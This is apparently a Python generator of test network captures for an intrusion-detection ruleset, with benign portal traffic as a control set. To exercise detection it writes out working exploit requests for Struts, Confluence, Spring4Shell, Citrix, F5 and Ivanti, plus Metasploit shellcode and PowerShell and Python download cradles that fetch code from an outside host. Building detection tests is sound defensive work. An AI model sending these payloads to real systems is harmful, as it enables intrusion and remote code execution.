STRUTS_CT = ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?"
             "(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
             "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
             "(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear())."
             "(#context.setMemberAccess(#dm)))).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/bash','-c',#cmd}))."
             "(#p.redirectErrorStream(true)).(#process=#p.start())."
             "(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),"
             "@org.apache.struts2.ServletActionContext@getResponse().getOutputStream()))}")
web("exploit-struts-cve-2017-5638", "8830101", "OGNL %{...} in the Content-Type of a Struts 2 action request",
    G("/struts2-showcase/index.action", headers=("Content-Type: " + STRUTS_CT,)), port=8080)
web("exploit-confluence-cve-2022-26134", "8830102", "OGNL ${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(...)))} as the URI path",
    G("/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29"
      ".exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29.%28%40com.opensymphony.webwork."
      "ServletActionContext%40getResponse%28%29.setHeader%28%22X-Cmd-Response%22%2C%23a%29%29%7D/"), port=8090)
web("exploit-spring4shell-uri", "8830103", "class.module.classLoader.URLs[0] in a query string",
    G("/?class.module.classLoader.URLs%5B0%5D=0"), port=8080)
web("exploit-spring4shell-body", "8830104", "class.module.classLoader.resources.context.parent.pipeline.first.* form fields",
    P("/tomcatwar/index",
      "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di"
      "&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"
      "&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT"
      "&class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar"
      "&class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat="), port=8080)
web("exploit-spring-cloud-function", "8830105", "spring.cloud.function.routing-expression: T(java.lang.Runtime)...",
    P("/functionRouter", "canh", ctype="text/plain",
      headers=('spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec("touch /tmp/canh")',)),
    port=8080)
web("exploit-apache-cve-2021-41773", "8830201 8810202 8810302 8810306",
    "POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh with echo;id (also encoded traversal, /bin/sh and ;id)",
    P("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "echo;id", ctype="text/plain"))
web("exploit-apache-cve-2021-42013", "8830202 8810203", "GET /cgi-bin/.%%32%65/... /etc/passwd (also /etc/passwd)",
    G("/cgi-bin/.%%32%65/.%%32%65/.%%32%65/.%%32%65/etc/passwd"))


@case("exploit-citrix-cve-2019-19781", "8830203 8830204 8810306",
      "GET /vpn/../vpns/cfg/smb.conf, then POST newbm.pl with NSC_USER: ../../../netscaler/portal/templates/x and a `id` template (also command injection in the body)")
def citrix(cap):
    conv(cap, ATTACKER, PORTAL, 41000, 80, [(G("/vpn/../vpns/cfg/smb.conf"), resp(b"[global]\n", ctype="text/plain"))])
    body = ("url=http://example.com&title=%5B%25t%3Dtemplate.new%28%7B%27BLOCK%27%3D%27print+%60id%60%27%7D%29%25%5D"
            "&desc=desc&UI_inuse=RfWeb")
    conv(cap, ATTACKER, PORTAL, 41001, 80,
         [(P("/vpns/portal/scripts/newbm.pl", body,
             headers=("NSC_USER: ../../../netscaler/portal/templates/canhtest", "NSC_NONCE: nsroot")), resp())])


web("exploit-f5-cve-2020-5902", "8830205", "/tmui/login.jsp/..;/tmui/locallb/workspace/tmshCmd.jsp",
    G("/tmui/login.jsp/..;/tmui/locallb/workspace/tmshCmd.jsp?command=list+auth+user+admin"), port=443)
web("exploit-f5-cve-2022-1388", "8830206 8850001", "POST /mgmt/tm/util/bash with X-F5-Auth-Token and Basic admin: (also HTTP Basic in clear)",
    P("/mgmt/tm/util/bash", '{"command":"run","utilCmdArgs":"-c id"}', ctype="application/json",
      headers=("Connection: keep-alive, X-F5-Auth-Token", "X-F5-Auth-Token: a", "Authorization: Basic YWRtaW46")))
web("exploit-fortinet-cve-2018-13379", "8830207 8810201", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession (also ../../)",
    G("/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"))
web("exploit-exchange-proxyshell", "8830208", "/autodiscover/autodiscover.json?@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example",
    G("/autodiscover/autodiscover.json?@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example"),
    port=443)
web("exploit-zimbra-mboximport", "8830209", "POST /service/extension/backup/mboximport with a ZIP",
    P("/service/extension/backup/mboximport?account-name=admin&ow=2&no-switch=1&append=1",
      b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + filler(200), ctype="application/x-www-form-urlencoded"))
web("exploit-ivanti-cve-2023-46805", "8830210 8810201", "/api/v1/totp/user-backup-code/../../license/keys-status/;python ... (also ../../)",
    G("/api/v1/totp/user-backup-code/../../license/keys-status/%3bpython%20%2dc%20%27import%20socket%27%3b"))

# === scanners.rules ========================================================================

web("scan-sqlmap", "8840001", "sqlmap's default user agent",
    G("/tin-tuc?id=1", ua="sqlmap/1.8.2#stable (https://sqlmap.org)"))
web("scan-nikto", "8840002", "Nikto's user agent",
    G("/cgi-bin/test-cgi", ua="Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)"))
web("scan-nmap", "8840003", "Nmap's http-* scripts",
    G("/nmaplowercheck1700000000", ua="Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"))
web("scan-masscan", "8840004", "masscan's banner grab",
    b"GET / HTTP/1.0\r\nUser-Agent: masscan/1.3 (https://github.com/robertdavidgraham/masscan)\r\nAccept: */*\r\n\r\n")
web("scan-acunetix", "8840005", "Acunetix's AcuSensor headers",
    G("/acunetix-wvs-test-for-some-inexistent-file",
      headers=("Acunetix-Aspect: enabled", "Acunetix-Aspect-Password: 082119f75623eb7abd7bf357698ff66c",
               "Acunetix-Aspect-Queries: filelist;aspectalerts")))
web("scan-netsparker", "8840006", "Netsparker's X-Scanner header",
    G("/", headers=("X-Scanner: Netsparker",)))
web("scan-wpscan", "8840007", "WPScan enumerating users",
    G("/wp-json/wp/v2/users", ua="WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"))
web("scan-nuclei", "8840008", "Nuclei's user agent",
    G("/.well-known/security.txt", ua="Mozilla/5.0 (Windows NT 10.0; Win64; x64) Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"))
web("scan-dirbuster", "8840009", "DirBuster's user agent",
    G("/admin/", ua="DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)"))
web("scan-gobuster", "8840010", "gobuster's user agent", G("/backup", ua="gobuster/3.6"))
web("scan-ffuf", "8840011", "ffuf's user agent", G("/cms-old", ua="Fuzz Faster U Fool v2.1.0-dev"))
web("scan-zgrab", "8840012", "ZGrab's user agent", G("/", ua="Mozilla/5.0 zgrab/0.x"))
web("scan-openvas", "8840013", "OpenVAS's user agent", G("/", ua="Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)"))
web("scan-hydra", "8840014 8850002", "THC Hydra's http-post-form (also a clear-text password)",
    P("/dang-nhap", "tendangnhap=admin&matkhau=123456", ua="Mozilla/4.0 (Hydra)"))


@case("scan-oob-dns", "8840101*2",
      "the portal resolving interactsh (oast.fun) and dnslog.cn callback names, as a blind injection makes it do")
def scan_oob_dns(cap):
    dns_lookups(cap, PORTAL, ["c59d8kq2vtc0000abcdgydyyyyyb.oast.fun", "x1y2z3.dnslog.cn"])


web("scan-sensitive-files", "8840102*2", "GET /.env and GET /.git/config",
    G("/.env"), G("/.git/config"))

# === credentials.rules =====================================================================

web("cred-http-basic", "8850001", "two requests with Authorization: Basic to the same server (threshold: one alert)",
    G("/quan-tri/", headers=("Authorization: Basic YWRtaW46TWF0S2hhdTEyMyE=",)),
    G("/quan-tri/bao-cao", headers=("Authorization: Basic YWRtaW46TWF0S2hhdTEyMyE=",)),
    client=STAFF)
web("cred-http-form", "8850002", "a login form with matkhau= posted over plain HTTP",
    P("/dang-nhap", form(("tendangnhap", "nguyenvana"), ("matkhau", "Abc@123456"))), client=STAFF)
web("cred-http-uri", "8850003", "password= in a query string",
    G("/api/login?user=can_bo01&password=Abc123"), client=STAFF)


@case("cred-ftp", "8850101", "FTP login USER canbo01 / PASS ... in clear text")
def cred_ftp(cap):
    conv(cap, STAFF, PORTAL, 41000, 21,
         [(b"", b"220 FTP server ready\r\n"), (b"USER canbo01\r\n", b"331 Password required\r\n"),
          (b"PASS MatKhau@2024\r\n", b"230 User logged in\r\n"), (b"QUIT\r\n", b"221 Goodbye\r\n")])


@case("cred-pop3", "8850102", "POP3 USER/PASS in clear text")
def cred_pop3(cap):
    conv(cap, STAFF, MAILSRV, 41000, 110,
         [(b"", b"+OK POP3 server ready\r\n"), (b"USER canbo01\r\n", b"+OK\r\n"),
          (b"PASS MatKhau@2024\r\n", b"+OK 3 messages\r\n"), (b"QUIT\r\n", b"+OK bye\r\n")])


@case("cred-imap", "8850103", "IMAP a001 LOGIN user password in clear text")
def cred_imap(cap):
    conv(cap, STAFF, MAILSRV, 41000, 143,
         [(b"", b"* OK IMAP4rev1 server ready\r\n"),
          (b"a001 LOGIN canbo01 MatKhau@2024\r\n", b"a001 OK LOGIN completed\r\n"),
          (b"a002 LOGOUT\r\n", b"* BYE\r\na002 OK\r\n")])


@case("cred-smtp", "8850104", "SMTP submission (587) AUTH LOGIN without STARTTLS")
def cred_smtp(cap):
    conv(cap, STAFF, MAILSRV, 41000, 587,
         [(b"", b"220 mail.tinh.example ESMTP\r\n"),
          (b"EHLO pc-canbo01\r\n", b"250-mail.tinh.example\r\n250-AUTH LOGIN PLAIN\r\n250 8BITMIME\r\n"),
          (b"AUTH LOGIN\r\n", b"334 VXNlcm5hbWU6\r\n"), (b"Y2FuYm8wMQ==\r\n", b"334 UGFzc3dvcmQ6\r\n"),
          (b"TWF0S2hhdUAyMDI0\r\n", b"235 2.7.0 Authentication successful\r\n"), (b"QUIT\r\n", b"221 Bye\r\n")])


@case("cred-telnet", "8850201", "a Telnet server's login prompt")
def cred_telnet(cap):
    conv(cap, STAFF, PORTAL, 41000, 23,
         [(b"", b"\xff\xfd\x18\xff\xfd\x20\xff\xfd\x23\xff\xfd\x27"),
          (b"\xff\xfc\x18\xff\xfc\x20\xff\xfc\x23\xff\xfc\x27", b"\r\nUbuntu 22.04 LTS\r\nrouter login: "),
          (b"admin\r\n", b"admin\r\nPassword: "), (b"MatKhau@2024\r\n", b"\r\nLogin incorrect\r\n")])


# === c2.rules ==============================================================================

CS_COOKIE = ("SfZrTFq7b0YMUf8dk1y1m0dQ4lP+HqE8X7aB9cD2eF3gH4iJ5kL6mN7oP8qR9sT0uV1wX2yZ3aB4cD5eF6gH7iJ8kL9mN0oP1qR2sT3"
             "uV4wX5yZ6aB7cD8eF9gH0iJ1kL2mN3oP4qR5sT6uV7wX8yZ9aB0cD1eF2gH3iJ4kL5mN6oP7qR8sT9u=")
assert len(CS_COOKIE) > 150

web("c2-cobaltstrike-get", "8860001", "a beacon's GET /pixel.gif with its metadata as a bare base64 cookie",
    G("/pixel.gif", host="198.51.100.77",
      ua="Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; Trident/5.0; MALC)",
      headers=("Cookie: " + CS_COOKIE,)),
    client=STAFF, server=C2, response=resp(b"", ctype="application/octet-stream"))
web("c2-cobaltstrike-post", "8860002", "a beacon's POST /submit.php?id=N with octet-stream output",
    P("/submit.php?id=1234567", filler(68), ctype="application/octet-stream", host="198.51.100.77",
      ua="Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; Trident/5.0; MALC)"),
    client=STAFF, server=C2)


def stage_case(name, expect, doc, body):
    web(name, expect, doc, G("/aBc1", host="198.51.100.77", ua="Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)"),
        client=STAFF, server=C2, response=resp(body, ctype="application/octet-stream"))


stage_case("c2-stage-x64", "8860101", "a stager's download: x64 reflective DLL starting MZARUH",
           b"MZARUH\x89\xe5\x48\x81\xec\x20\x00\x00\x00" + bytes(3000))
stage_case("c2-stage-x86", "8860102", "a stager's download: x86 reflective DLL starting MZ, call $+5, pop ebx",
           b"MZ\xe8\x00\x00\x00\x00\x5b\x89\xdf\x52\x45\x55\x89\xe5" + bytes(3000))
stage_case("c2-shellcode-x86", "8860103", "x86 Metasploit block_api shellcode served over HTTP",
           b"\xfc\xe8\x82\x00\x00\x00\x60\x89\xe5\x31\xc0\x64\x8b\x50\x30\x8b\x52\x0c\x8b\x52\x14\x8b\x72\x28"
           b"\x0f\xb7\x4a\x26\x31\xff\xac\x3c\x61\x7c\x02\x2c\x20\xc1\xcf\x0d\x01\xc7\xe2\xf2" + bytes(300))
stage_case("c2-shellcode-x64", "8860104", "x64 Metasploit block_api shellcode served over HTTP",
           b"\xfc\x48\x83\xe4\xf0\xe8\xc0\x00\x00\x00\x41\x51\x41\x50\x52\x51\x56\x48\x31\xd2\x65\x48\x8b\x52\x60"
           b"\x48\x8b\x52\x18\x48\x8b\x52\x20\x48\x8b\x72\x50\x48\x0f\xb7\x4a\x4a\x4d\x31\xc9" + bytes(300))
web("c2-msf-web-delivery-ps", "8860105", "Metasploit web_delivery's PowerShell stager",
    G("/Xy7aB2", host="198.51.100.77:8080", ua=None), client=STAFF, server=C2, port=8080,
    response=resp(b"$a=new-object net.webclient;if([System.Net.WebProxy]::GetDefaultProxy().address -ne $null)"
                  b"{$a.proxy=[Net.WebRequest]::GetSystemWebProxy();$a.Proxy.Credentials=[Net.CredentialCache]::"
                  b"DefaultCredentials;};IEX $a.downloadstring('http://198.51.100.77:8080/Xy7aB2/abc');",
                  ctype="application/octet-stream"))
web("c2-msf-web-delivery-python", "8860106", "Metasploit web_delivery's Python launcher injected in a form field",
    P("/cgi-bin/diag.cgi",
      "ip=127.0.0.1%3Bpython3+-c+%22import+sys%3Bimport+ssl%3Bu%3D__import__%28%27urllib%27%2B%7B2%3A%27%27%2C3%3A"
      "%27.request%27%7D%5Bsys.version_info%5B0%5D%5D%2Cfromlist%3D%28%27urlopen%27%2C%29%29%3Br%3Du.urlopen%28"
      "%27http%3A%2F%2F198.51.100.77%3A8080%2Fpy%27%29%3Bexec%28r.read%28%29%29%3B%22"))
web("c2-ps-cradle-response", "8860201", "a .bat served with powershell -c \"IEX (New-Object Net.WebClient).DownloadString(...)\"",
    G("/update.bat", host="198.51.100.77"), client=STAFF, server=C2,
    response=resp(b"@echo off\r\npowershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString("
                  b"'http://198.51.100.77/a.ps1')\"\r\n", ctype="application/octet-stream"))
web("c2-ps-cradle-body", "8860202", "a download cradle injected in a form field",
    P("/api/diag", "host=127.0.0.1%26powershell+-c+%22IEX(New-Object+Net.WebClient).DownloadString"
                   "(%27http://198.51.100.77/a.ps1%27)%22"))
web("c2-ps-cradle-uri", "8860203", "a download cradle injected in a query string",
    G("/ping.aspx?ip=127.0.0.1%26powershell+IEX+(New-Object+Net.WebClient).DownloadString(%27http://198.51.100.77/a.ps1%27)"))
web("c2-powershell-ua", "8860204", "Invoke-WebRequest's user agent",
    G("/a.ps1", host="198.51.100.77", ua="Mozilla/5.0 (Windows NT; Windows NT 10.0; vi-VN) WindowsPowerShell/5.1.19041.4291"),
    client=STAFF, server=C2)
web("c2-certutil", "8860205", "certutil -urlcache -f's user agent",
    G("/payload.txt", host="198.51.100.77", ua="CertUtil URL Agent"), client=STAFF, server=C2)


@case("c2-tunnel-dns", "8860301*2", "lookups of an ngrok-free.app and a trycloudflare.com name")
def c2_tunnel_dns(cap):
    dns_lookups(cap, STAFF, ["3f2a-203-0-113-5.ngrok-free.app", "random-words-here.trycloudflare.com"])


# === cryptominers.rules ====================================================================


@case("miner-stratum", "8870001 8870002 8870003",
      "Stratum v1 on port 3333: mining.subscribe, mining.authorize, mining.notify, mining.submit")
def miner_stratum(cap):
    conv(cap, STAFF, POOL, 41000, 3333, [
        (b'{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5.1"]}\n',
         b'{"id":1,"result":[[["mining.notify","ae6812eb4cd7735a"]],"08000002",4],"error":null}\n'),
        (b'{"id":2,"method":"mining.authorize","params":["bc1qcanhwallet.worker1","x"]}\n',
         b'{"id":2,"result":true,"error":null}\n{"id":null,"method":"mining.notify","params":["4f2a",'
         b'"00000000000000000000000000000000","01000000","ffffffff",[],"20000000","1d00ffff","5f5e1000",true]}\n'),
        (b'{"params":["bc1qcanhwallet.worker1","4f2a","00000000","5f5e1000","12345678"],"id":4,'
         b'"method":"mining.submit"}\n', b'{"id":4,"result":true,"error":null}\n')])


@case("miner-xmrig", "8870004 8870005 8870006",
      "XMRig on port 10128: login with agent XMRig, the pool's job, a submit")
def miner_xmrig(cap):
    conv(cap, STAFF, POOL, 41000, 10128, [
        (b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD",'
         b'"pass":"x","agent":"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0","algo":["rx/0","cn/r"]}}\n',
         b'{"id":1,"jsonrpc":"2.0","error":null,"result":{"id":"a1b2c3","job":{"blob":"0707f0e1","job_id":"1234",'
         b'"target":"b88d0600","algo":"rx/0","seed_hash":"00ff"},"status":"OK"}}\n'),
        (b'{"id":2,"jsonrpc":"2.0","method":"submit","params":{"id":"a1b2c3","job_id":"1234","nonce":"a1b2c3d4",'
         b'"result":"0f0e0d0c0b0a09080706050403020100"}}\n',
         b'{"id":2,"jsonrpc":"2.0","error":null,"result":{"status":"OK"}}\n')])


@case("miner-dns", "8870101*4 8870102*4",
      "lookups of pool.minexmr.com and pool.supportxmr.com (listed pools, also pool.*xmr names), "
      "xmr-asia1.nanopool.org (listed, also an xmr-<region> name), gulf.moneroocean.stream (listed) and "
      "xmr.pool.gntl.co.uk (an xmr.pool. name only)")
def miner_dns(cap):
    dns_lookups(cap, STAFF, ["pool.minexmr.com", "xmr-asia1.nanopool.org", "gulf.moneroocean.stream",
                             "xmr.pool.gntl.co.uk", "pool.supportxmr.com"])


@case("miner-tls-sni", "8870201", "a TLS ClientHello to gulf.moneroocean.stream on port 443")
def miner_tls(cap):
    conv(cap, STAFF, POOL, 41000, 443, [(mr.tls_client_hello("gulf.moneroocean.stream"), mr.tls_server_hello())])


# === malware.rules =========================================================================


@case("yara-eicar-chunked-gzip", "8880001",
      "HTTP/1.1 200 with Transfer-Encoding: chunked and Content-Encoding: gzip whose decoded body is the 68-byte EICAR file")
def yara_eicar(cap):
    r = resp(EICAR, ctype="application/octet-stream", encoding="gzip", chunks=[10, 20],
             headers=('Content-Disposition: attachment; filename="eicar.com"',))
    assert EICAR not in r
    conv(cap, STAFF, C2, 41000, 80, [(G("/downloads/eicar.com", host="198.51.100.77", ua=UA_FIREFOX), r)])


upload_case("malware-eicar-upload", "8880002", "the EICAR file uploaded in a multipart POST",
            "eicar.txt", "text/plain", EICAR, uri="/nop-ho-so/tai-len")



def downloads(cap, files, client, server, host):
    for i, (fname, data) in enumerate(files.items()):
        conv(cap, client, server, 41000 + i, 80,
             [(G("/files/" + fname + ".txt", host=host, ua="Wget/1.21.3"), resp(data, ctype="text/plain"))])


@case("yara-webshell-samples", "8820204",
      "the portal downloading one sample per remaining YARA web shell rule (WEBSHELL_SAMPLES: China Chopper one-liner, "
      "packed eval, WSO, b374k, Behinder JSP, ASPX cmd runner) as .txt files; of the Canh rules only the PHP shell "
      "source rule fires (on the one-liner)")
def yara_samples(cap):
    downloads(cap, WEBSHELL_SAMPLES, PORTAL, C2, "198.51.100.77")


# === benign traffic: no alert at all =======================================================

PAGE = """<!DOCTYPE html><html lang="vi"><head><meta charset="utf-8"><title>Cổng thông tin điện tử tỉnh</title>
<script src="/js/jquery-3.7.1.min.js"></script><script>document.cookie = "lang=vi; path=/";
window.dataLayer = window.dataLayer || []; function gtag(){dataLayer.push(arguments);}</script></head>
<body><h1>Tin tức - Sự kiện</h1><p>Hội nghị chuyển đổi số năm 2024: Ủy ban nhân dân tỉnh chọn (select)
ba nhóm nhiệm vụ trọng tâm; Công đoàn (union) viên chức tỉnh tham gia.</p>
<a href="javascript:void(0)" onclick="window.print()">In trang</a>
<img src="/images/logo-tinh.png" onerror="this.style.display='none'"></body></html>
"""

BROWSE = [
    ("/", UA_CHROME),
    ("/tin-tuc/hoi-nghi-chuyen-doi-so-tinh-nam-2024.html", UA_CHROME),
    ("/tim-kiem?q=c%C3%B4ng+%C4%91o%C3%A0n+union+select+committee", UA_FIREFOX),
    ("/tim-kiem?q=European+Union+selects+new+members%2C+2024", UA_FIREFOX),
    ("/tim-kiem?q=order+by+date", UA_CHROME),
    ("/van-ban?sort=ngay_ban_hanh&order=desc&page=2", UA_CHROME),
    ("/tim-kiem?q=k%E1%BB%8Bch+b%E1%BA%A3n+script+l%E1%BB%85+k%E1%BB%B7+ni%E1%BB%87m", UA_SAFARI),
    ("/tim-kiem?q=javascript+tutorial", UA_EDGE),
    ("/tim-kiem?q=sleep+and+health", UA_EDGE),
    ("/tim-kiem?q=%22t%C3%A0i+li%E1%BB%87u%22+or+%22v%C4%83n+b%E1%BA%A3n%22", UA_CHROME),
    ("/tim-kiem?q=Vi%E1%BB%87t+Nam+or+L%C3%A0o+1%3D1", UA_CHROME),
    ("/thu-tuc-hanh-chinh?linh_vuc=dat-dai&cap=tinh&id=1234", UA_SAFARI),
    ("/js/jquery-3.7.1.min.js", UA_CHROME),
    ("/css/main.css?v=20240501", UA_CHROME),
    ("/images/logo-tinh.png", UA_CHROME),
    ("/van-ban/quyet-dinh-so-1234-QD-UBND.pdf", UA_FIREFOX),
    ("/api/thoi-tiet?tinh=ha-noi&ngay=2024-05-01", UA_CHROME),
    ("/tin-tuc?tag=an-ninh-mang&select=all&union=false", UA_CHROME),
    ("/dang-ky?email=an%40example.vn&redirect=/tai-khoan", UA_FIREFOX),
    ("/lich-cong-tac/tuan-18?id=5;6", UA_CHROME),
    ("/.well-known/security.txt", UA_CURL),
    ("/tim-kiem?q=benchmark+chuy%E1%BB%83n+%C4%91%E1%BB%95i+s%E1%BB%91+(2024)", UA_CHROME),
    ("/tim-kiem?q=information+schema+c%E1%BB%A7a+CSDL", UA_CHROME),
    ("/bin/bao-cao.html", UA_CHROME),
    ("/phpldapadmin/cmd.php?cmd=template_engine&server_id=1", UA_FIREFOX),
    ("/quan-ly/danh-muc?cmd=type&id=5", UA_FIREFOX),
    ("/quen-mat-khau?reset_password=1&forgot_password=true", UA_CHROME),
]


@case("benign-portal-browsing", "",
      "browsing a provincial portal with Chrome, Firefox, Safari, Edge and curl: pages, searches with select/union/script/order by/or, assets, cookies, phpLDAPadmin's cmd.php, a forgotten-password link")
def benign_browsing(cap):
    for i, (uri, ua) in enumerate(BROWSE):
        headers = ("Referer: http://congthongtin.tinh.example/",
                   "Cookie: PHPSESSID=9f8e7d6c5b4a39281706f5e4d3c2b1a0; _ga=GA1.1.123456789.1700000000; "
                   "lang=vi")
        body = PAGE.encode() if uri.startswith("/tin-tuc") or uri == "/" else b"<html><body>OK</body></html>"
        conv(cap, STAFF if i % 2 else STAFF2, PORTAL, 42000 + i, 80,
             [(G(uri, ua=ua, headers=headers), resp(body, encoding="gzip" if i % 3 == 0 else None))])


@case("benign-forms", "", "form POSTs with Vietnamese text (feedback, newsletter with remember_password=on, online application) over HTTP, no password")
def benign_forms(cap):
    fb = form(("ho_ten", "Nguyễn Văn An"), ("email", "an.nguyen@example.vn"), ("so_dien_thoai", "0912345678"),
              ("tieu_de", "Góp ý về thủ tục cấp giấy phép xây dựng"),
              ("noi_dung", "Kính gửi Sở Xây dựng, tôi đề nghị Sở chọn (select) phương án 1 hoặc 2; Công đoàn "
                           "(union) đã đồng ý. Kịch bản (script) buổi lễ đã gửi. Điều kiện: a = b or c, "
                           "theo O'Neil; trân trọng!"))
    nl = form(("email", "thu.tran@example.vn"), ("chu_de", "tin-tuc"), ("chu_de", "van-ban"),
              ("remember_password", "on"))
    app = form(("ma_thu_tuc", "1.001234"), ("ho_ten", "Trần Thị Thu"), ("ngay_sinh", "1990-05-01"),
               ("dia_chi", "Số 1, đường Lê Lợi, phường 1, thành phố X"), ("ly_do", "Cấp đổi; bị mất"))
    for i, (uri, body) in enumerate((("/gop-y", fb), ("/dang-ky-nhan-tin", nl), ("/dich-vu-cong/nop-ho-so", app))):
        conv(cap, STAFF, PORTAL, 42000 + i, 80, [(P(uri, body), resp(b"<html>C\xe1\xba\xa3m \xc6\xa1n</html>"))])


@case("benign-json-api", "", "a JSON API used by the portal's front end and by curl")
def benign_api(cap):
    conv(cap, STAFF, PORTAL, 42000, 80, [
        (P("/api/v1/ho-so/tra-cuu", '{"maHoSo":"H34.22-240501-0001","soDinhDanh":"012345678901","captcha":"a7k2"}',
           ctype="application/json"),
         resp('{"trangThai":"Đang xử lý","ngayHenTra":"2024-05-15","select":true}', ctype="application/json")),
        (G("/api/v1/thu-tuc?page=1&size=20&orderBy=ngayTao&order=desc"),
         resp('{"items":[{"id":1,"ten":"Cấp giấy phép"}],"total":1}', ctype="application/json"))])
    conv(cap, STAFF2, PORTAL, 42001, 80,
         [(G("/api/v1/health", ua=UA_CURL), resp('{"status":"ok"}', ctype="application/json"))])


@case("benign-upload", "", "a citizen's application uploaded with a PDF and a JPEG (multipart/form-data)")
def benign_upload(cap):
    pdf = (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n" + filler(2500, 3) +
           b"\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")
    jpg = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x48\x00\x48\x00\x00" + filler(4000, 11) + b"\xff\xd9"
    body, ctype = multipart([("ho_ten", "Lê Văn Bình"), ("ma_thu_tuc", "2.000123")],
                            [("don", "don-de-nghi.pdf", "application/pdf", pdf),
                             ("anh", "anh-the.jpg", "image/jpeg", jpg)])
    conv(cap, STAFF, PORTAL, 42000, 80, [(P("/dich-vu-cong/tai-len", body, ctype=ctype), resp())])


@case("benign-downloads", "", "downloads: a PDF, a Linux tutorial showing id's output, a JavaScript file using document.cookie and eval, a PHP tutorial page, a gzip page")
def benign_downloads(cap):
    js = (b"function setLang(l){document.cookie='lang='+l;}\nvar cfg=eval('('+'{\"a\":1}'+')');\n"
          b"$(function(){ $('#q').on('keyup', function(){ /* search */ }); });\n")
    tut = (b"<html><body><h1>H\xc6\xb0\xe1\xbb\x9bng d\xe1\xba\xabn PHP</h1><pre>&lt;?php echo 'Xin chao'; ?&gt;</pre>"
           b"<pre><?php echo htmlspecialchars($_GET['name']); ?></pre><p>uid: 33, gid: 33</p></body></html>")
    linux = (b"<html><head><title>Qu\xe1\xba\xa3n tr\xe1\xbb\x8b Linux</title></head><body>" + b"<p>N\xe1\xbb\x99i dung</p>" * 30 +
             b"<pre>$ id\nuid=0(root) gid=0(root) groups=0(root)</pre></body></html>")
    items = [("/van-ban/quyet-dinh.pdf", resp(b"%PDF-1.4\n" + filler(3000, 5), ctype="application/pdf")),
             ("/huong-dan/linux.html", resp(linux)),
             ("/js/app.js", resp(js, ctype="application/javascript")),
             ("/huong-dan/php.html", resp(tut)),
             ("/tin-tuc/index.html", resp(PAGE, encoding="gzip", chunks=[100]))]
    for i, (uri, r) in enumerate(items):
        conv(cap, STAFF, PORTAL, 42000 + i, 80, [(G(uri), r)])


@case("benign-dns", "", "ordinary lookups, including pool.ntp.org and a name starting with xmr")
def benign_dns(cap):
    dns_lookups(cap, STAFF, ["congthongtin.tinh.example", "mail.tinh.example", "pool.ntp.org", "vn.pool.ntp.org",
                             "www.example.com", "xmradio.example", "ngrok.example", "oast.example"])


@case("benign-tls", "", "TLS ClientHellos to the portal and to www.example.com")
def benign_tls(cap):
    for i, sni in enumerate(("dichvucong.tinh.example", "www.example.com")):
        conv(cap, STAFF, PORTAL, 42000 + i, 443, [(mr.tls_client_hello(sni), mr.tls_server_hello())])


@case("benign-mail-ftp", "", "anonymous FTP, FTP upgraded with AUTH TLS, SMTP with STARTTLS, IMAP with STARTTLS")
def benign_mail_ftp(cap):
    tls_bytes = mr.tls_client_hello("mail.tinh.example")
    conv(cap, STAFF, PORTAL, 42000, 21,
         [(b"", b"220 FTP server ready\r\n"), (b"USER anonymous\r\n", b"331 Guest login ok\r\n"),
          (b"PASS guest@example.vn\r\n", b"230 Guest login ok\r\n"), (b"PWD\r\n", b"257 \"/\"\r\n"),
          (b"QUIT\r\n", b"221 Goodbye\r\n")])
    conv(cap, STAFF, PORTAL, 42001, 21,
         [(b"", b"220 FTP server ready\r\n"), (b"AUTH TLS\r\n", b"234 AUTH TLS successful\r\n"), (tls_bytes, b"")])
    conv(cap, STAFF, MAILSRV, 42002, 587,
         [(b"", b"220 mail.tinh.example ESMTP\r\n"),
          (b"EHLO pc-canbo01\r\n", b"250-mail.tinh.example\r\n250-STARTTLS\r\n250 8BITMIME\r\n"),
